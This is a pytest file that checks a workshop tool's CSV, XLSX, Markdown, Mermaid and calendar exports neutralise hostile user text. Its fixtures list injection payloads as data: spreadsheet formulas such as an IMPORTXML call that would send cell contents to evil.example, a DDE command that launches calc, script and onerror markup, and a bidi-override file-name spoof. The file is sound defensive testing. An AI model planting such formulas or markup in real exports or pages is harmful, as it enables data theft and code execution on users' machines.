"""Exports hold text, never code (issue #12): hostile titles, owners and texts in every format.

Each file is opened with the reader a consultant's tools use: the csv module, openpyxl,
markdown-it (CommonMark with tables, raw HTML allowed and bare links turned into links, as the
most permissive viewers do), icalendar, and the Mermaid journey's line shape.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import unicodedata
from datetime import date, datetime
from typing import Any

import pytest
from icalendar import Calendar
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from cjworkflow.i18n import t
from cjworkflow.messages import Attachment
from cjworkflow.outputs.exports import CSV_FIELDS
from cjworkflow.outputs.produce import produce
from cjworkflow.safety.text import FORMULA_START, cell_text, markdown_text, owner_label, plain
from cjworkflow.snapshot import WorkshopSnapshot
from cjworkflow.storage.readmodel import build_snapshot
from tests.harness import Room
from tests.render_factory import make_snapshot

# What members may type as an action's title; each is a formula (or DDE) to a spreadsheet.
FORMULAS = ['=HYPERLINK("http://evil.example","click")', "+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=2+2", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']
# The same after typing: a tab or CR before the text is cleaned away, the formula stays.
# (Two different formulas there: an action already in the plan is asked about, issue #14.)
TYPED = ['=HYPERLINK("http://evil.example","click")', "+1", "-2+3", "@SUM(A1)",
         "=1+1", "=2+2", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']
MARKUP = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
          "[klik hier](javascript:alert(1))", "![](http://tracker.example/p.png)",
          "<http://evil.example/>", "zie http://evil.example/x en www.evil.example",
          "[ref]: http://evil.example", "a | b | c",
          "mail anna@evil.example of mailto:x@evil.example, zie evil.example/x"]
# Text from an import or an older version: never cleaned on the way in.
BIDI = "\u202e" + "gnp.exe" + "\u202c"
RAW = {"title": "Klant\x00 belt\x07 \x1b[31mterug " + BIDI + " \u2066x\u2069\x85\x9b",
       "persian": "می\u200cخواهم",  # the zero-width non-joiner is part of the word
       "family": "👨\u200d👩\u200d👧"}
LINE = {"nl": "{title} | impact 4 | moeite 2 | @anna | deadline 2027-01-05",
        "en": "{title} | impact 4 | effort 2 | @anna | due 2027-01-05"}


def _no_invisible(text: str, allowed: str = "") -> bool:
    """No control or format character in text except those in allowed."""
    return not any(unicodedata.category(c) in {"Cc", "Cf"} and c not in allowed for c in text)


@pytest.fixture(params=["nl", "en"])
def lang(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def hostile(engine: Engine, lang: str) -> WorkshopSnapshot:
    """A workshop played through the engine with formulas and markup in goals and actions."""
    room = Room(engine, lang=lang)
    room.start("=HYPERLINK(\"http://evil.example\") <b>workshop</b>")
    for text in MARKUP:
        room.say("anna", text)
    room.goto(8)
    for title in [*FORMULAS, *MARKUP[:4]]:
        room.say("anna", LINE[lang].format(title=title))
    with Session(engine) as session:
        return build_snapshot(session=session, workshop=room.workshop())


def _raw_snapshot() -> WorkshopSnapshot:
    """A snapshot as an import could bring it: control characters, bidi, formulas as names."""
    snap = make_snapshot(actions=4, lang="nl")
    first, second, third, fourth = snap.actions[:4]
    actions = (
        dataclasses.replace(first, title=RAW["title"], owner="@mallory",
                            owner_name="=cmd|' /C calc'!A0"),
        dataclasses.replace(second, title=RAW["persian"], owner="-1+1 Jansen", owner_name=None,
                            stage="@stage"),
        dataclasses.replace(third, title=RAW["family"] + " gezin", owner="@anna",
                            owner_name=None),
        dataclasses.replace(fourth, title="\t=1+1", owner=None),
    )
    stage = dataclasses.replace(snap.stages[0], label="=1+1 " + BIDI,
                                touchpoints=((RAW["title"], "web; app: #1"),))
    dated = tuple(dataclasses.replace(a, due_date=date(2027, 1, 5)) for a in actions)
    return dataclasses.replace(snap, title=RAW["title"], actions=dated,
                               stages=(stage, *snap.stages[1:]))


# --- CSV ------------------------------------------------------------------------------------

def _csv(snap: WorkshopSnapshot, lang: str) -> list[list[str]]:
    data = produce(Attachment("csv", snap, lang)).data
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_never_start_a_formula(hostile: WorkshopSnapshot, lang: str) -> None:
    rows = _csv(hostile, lang)
    col = {f: i for i, f in enumerate(CSV_FIELDS)}
    body = rows[1:]
    assert len(body) == len(FORMULAS) + 4
    for row in body:
        for value in row:
            assert value[:1] not in FORMULA_START, row
    titles = [r[col["title"]] for r in body]
    # Every formula is there, as text: the OWASP quote in front, nothing else changed.
    for typed in TYPED:
        assert "'" + typed in titles
    assert MARKUP[0] in titles  # CSV is not HTML: markup stays as typed
    assert {r[col["owner"]] for r in body} == {"Anna (@anna)"}
    assert {(r[col["impact"]], r[col["effort"]], r[col["due_date"]]) for r in body} == {
        ("4", "2", "2027-01-05")}


def test_csv_of_imported_text_is_clean_and_owners_are_not_formulas() -> None:
    rows = _csv(_raw_snapshot(), "nl")
    col = {f: i for i, f in enumerate(CSV_FIELDS)}
    body = rows[1:]
    assert [r[col["title"]] for r in body] == [
        "Klant belt [31mterug gnp.exe x", RAW["persian"], RAW["family"] + " gezin", "'=1+1"]
    assert [r[col["owner"]] for r in body] == [
        "'=cmd|' /C calc'!A0 (@mallory)", "'-1+1 Jansen", "anna (@anna)", ""]
    assert body[1][col["stage"]] == "'@stage"
    assert all(_no_invisible(v, allowed="\u200c\u200d") for r in body for v in r)


# --- XLSX -----------------------------------------------------------------------------------

def _workbook_cells(snap: WorkshopSnapshot, lang: str) -> list[list[Any]]:
    wb = load_workbook(io.BytesIO(produce(Attachment("xlsx", snap, lang)).data))
    return [list(row) for ws in wb.worksheets for row in ws.iter_rows()]


def test_xlsx_holds_strings_and_numbers_never_formulas(hostile: WorkshopSnapshot,
                                                       lang: str) -> None:
    rows = _workbook_cells(hostile, lang)
    cells = [c for row in rows for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    for c in cells:
        if isinstance(c.value, str):
            assert c.data_type == "s" and c.value[:1] not in FORMULA_START, c.value
    wb = load_workbook(io.BytesIO(produce(Attachment("xlsx", hostile, lang)).data))
    plan = list(wb.worksheets[0].iter_rows(min_row=2, values_only=True))
    col = {f: i for i, f in enumerate(CSV_FIELDS)}
    titles = [r[col["title"]] for r in plan]
    for typed in TYPED:
        assert "'" + typed in titles
    # Real numbers and dates stay typed: the consultant can sort and filter on them.
    assert {(r[col["impact"]], r[col["effort"]]) for r in plan} == {(4, 2)}
    assert {r[col["due_date"]] for r in plan} == {datetime(2027, 1, 5)}
    assert {r[col["owner"]] for r in plan} == {"Anna (@anna)"}
    board = [c.value for row in wb.worksheets[1].iter_rows(min_row=2) for c in row if c.value]
    assert len(board) == len(plan) and all("Anna (@anna) · 2027-01-05" in v for v in board)


def test_xlsx_of_imported_text_is_clean() -> None:
    wb = load_workbook(io.BytesIO(produce(Attachment("xlsx", _raw_snapshot(), "nl")).data))
    plan = list(wb.worksheets[0].iter_rows(min_row=2, values_only=True))
    col = {f: i for i, f in enumerate(CSV_FIELDS)}
    assert [r[col["title"]] for r in plan] == [
        "Klant belt [31mterug gnp.exe x", RAW["persian"], RAW["family"] + " gezin", "'=1+1"]
    assert [r[col["owner"]] for r in plan] == [
        "'=cmd|' /C calc'!A0 (@mallory)", "'-1+1 Jansen", "anna (@anna)", None]
    heads = [c.value for c in wb.worksheets[1][1]]
    assert heads[0] == "1. =1+1 gnp.exe"  # a stage column's head: a string, no bidi override
    assert wb.worksheets[1]["A1"].data_type == "s"
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert all(_no_invisible(v, allowed="\n\u200c\u200d") for v in values if isinstance(v, str))


# --- Markdown -------------------------------------------------------------------------------

def _html(markdown: bytes) -> str:
    """The Markdown as a permissive viewer shows it: raw HTML passed on, bare links linked."""
    md = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "linkify"])
    return md.render(markdown.decode("utf-8"))


def test_markdown_shows_html_and_links_as_text(hostile: WorkshopSnapshot, lang: str) -> None:
    html = _html(produce(Attachment("markdown", hostile, lang)).data)
    assert not re.search(r"<(script|img|b)\b", html), html
    assert "<a " not in html and "<img" not in html
    # What was typed is shown: the tags as text, the link syntax as its characters.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[klik hier](javascript:alert(1))" in html
    assert "![](http://tracker.example/p.png)" in html
    assert "&lt;http://evil.example/&gt;" in html
    assert "zie http://evil.example/x en www.evil.example" in html
    assert "mail anna@evil.example of mailto:x@evil.example, zie evil.example/x" in html
    # The plan is still one table row per action, with its eight columns (issue #14 added
    # the stage and the goal).
    body = html.split("<tbody>")[1].split("</tbody>")[0]
    rows = body.count("<tr>")
    assert rows == len(FORMULAS) + 4
    assert body.count("<td>") == 8 * rows
    assert "a | b | c" in html  # a goal with pipes is one line of text


def test_markdown_of_imported_text_is_clean() -> None:
    data = produce(Attachment("markdown", _raw_snapshot(), "nl")).data.decode("utf-8")
    assert _no_invisible(data, allowed="\n\u200c\u200d")
    assert RAW["persian"] in data and RAW["family"] in data
    assert data.startswith("# Klant belt \\[31mterug gnp\\.exe x\n")


@pytest.mark.parametrize(("typed", "shown"), [
    ("# kop", "\\# kop"), ("1. lijst", "1\\. lijst"), ("- punt", "\\- punt"),
    ("> citaat", "&gt; citaat"), ("a\\[b](c)", "a\\\\\\[b\\](c)"), ("`code`", "\\`code\\`"),
    ("2027 plannen", "2027 plannen"), ("snake_case *nadruk*", "snake\\_case \\*nadruk\\*"),
])
def test_markdown_text_escapes_structure(typed: str, shown: str) -> None:
    assert markdown_text(typed) == shown
    # Rendered, it is the text typed, in one paragraph.
    html = MarkdownIt("commonmark", {"html": True}).render(markdown_text(typed))
    assert html.startswith("<p>") and html.count("<p>") == 1, html


# --- Mermaid and ICS ------------------------------------------------------------------------

# A field is plain characters or entity codes (#58;): nothing that ends a statement (;),
# starts a comment (#, %%), separates a task's parts (:) or actors (,), or makes a tag.
_FIELD = r"(?:[^:;#%,\n<>]|#\d+;)+"
TASK = re.compile(rf"^ {{8}}{_FIELD}: [1-5]: {_FIELD}(?:, {_FIELD})*$")
HEAD = re.compile(r"^ {4}(?:title (?:[^;#%\n<>]|#\d+;)+|section (?:[^:;#%\n<>]|#\d+;)+)$")


def _mermaid_lines(snap: WorkshopSnapshot, lang: str) -> list[str]:
    lines = produce(Attachment("mermaid", snap, lang)).data.decode("utf-8").splitlines()
    assert lines[0] == "journey" and lines[1].startswith("    title ")
    for line in lines[1:]:
        assert HEAD.match(line) or TASK.match(line), line
    return lines


def test_mermaid_holds_no_tag_or_control_character(hostile: WorkshopSnapshot, lang: str) -> None:
    lines = _mermaid_lines(hostile, lang)
    assert "<" not in "".join(lines) and ">" not in "".join(lines)
    assert "#60;b#62;workshop#60;/b#62;" in lines[1]


def test_mermaid_of_imported_text_is_clean() -> None:
    lines = _mermaid_lines(_raw_snapshot(), "nl")
    text = "\n".join(lines)
    assert _no_invisible(text, allowed="\n")
    assert lines[1] == "    title Klant belt [31mterug gnp.exe x"
    assert lines[2] == "    section =1+1 gnp.exe"
    assert re.fullmatch(r" {8}Klant belt \[31mterug gnp\.exe x: [1-5]: web#59; app#58; #35;1",
                        lines[3]), lines[3]


def _events(snap: WorkshopSnapshot, lang: str) -> list[Any]:
    cal = Calendar.from_ical(produce(Attachment("ics", snap, lang)).data)
    return list(cal.walk("VEVENT"))


def test_ics_text_is_clean_and_whole(hostile: WorkshopSnapshot, lang: str) -> None:
    events = _events(hostile, lang)
    assert len(events) == len(FORMULAS) + 4
    summaries = [str(e["SUMMARY"]) for e in events]
    for typed in TYPED:  # a calendar is no spreadsheet: the title is shown as typed
        assert t(lang, "ics-summary", title=typed, owner="@anna") in summaries
    for e in events:
        assert _no_invisible(str(e["SUMMARY"])) and _no_invisible(str(e["DESCRIPTION"]), "\n")


def test_ics_of_imported_text_is_clean() -> None:
    snap = _raw_snapshot()
    events = _events(snap, "nl")
    texts = [str(e[k]) for e in events for k in ("SUMMARY", "DESCRIPTION")]
    assert all(_no_invisible(x, allowed="\n\u200c\u200d") for x in texts)
    summaries = {str(e["SUMMARY"]) for e in events}
    assert t("nl", "ics-summary", title="Klant belt [31mterug gnp.exe x",
             owner="@mallory") in summaries
    assert any(RAW["persian"] in s for s in summaries)
    assert any(RAW["family"] in s for s in summaries)


# --- The helpers, for the record ------------------------------------------------------------

@pytest.mark.parametrize("typed", [*FORMULAS, "\n=1", " =1", "\u00a0@x"])
def test_no_cell_text_starts_a_formula(typed: str) -> None:
    assert cell_text(typed)[:1] == "'"


def test_owners_read_naturally_in_a_spreadsheet() -> None:
    assert owner_label("@anna", "Anna de Vries") == "Anna de Vries (@anna)"
    assert owner_label("@anna", None) == "anna (@anna)"
    assert owner_label("Piet", None) == "Piet"
    assert owner_label(None, None) == ""
    # A name is not an identity: someone who calls themself "=1+1" gets no formula.
    assert owner_label("@x", "=1+1") == "'=1+1 (@x)"


@pytest.mark.parametrize("text", [
    "Klant belt terug", " spaties  rondom ", "e\u0301", "nbsp\u00a0hier", "tab\there",
    RAW["title"], RAW["persian"], RAW["family"], "zwj\u200din latin", "soft\u00adhyphen",
    "line\u2028sep", "\U000e0041tag",
])
def test_plain_is_the_input_cleaning(text: str) -> None:
    from cjworkflow.reading.lines import clean_text

    assert plain(text) == clean_text(text)
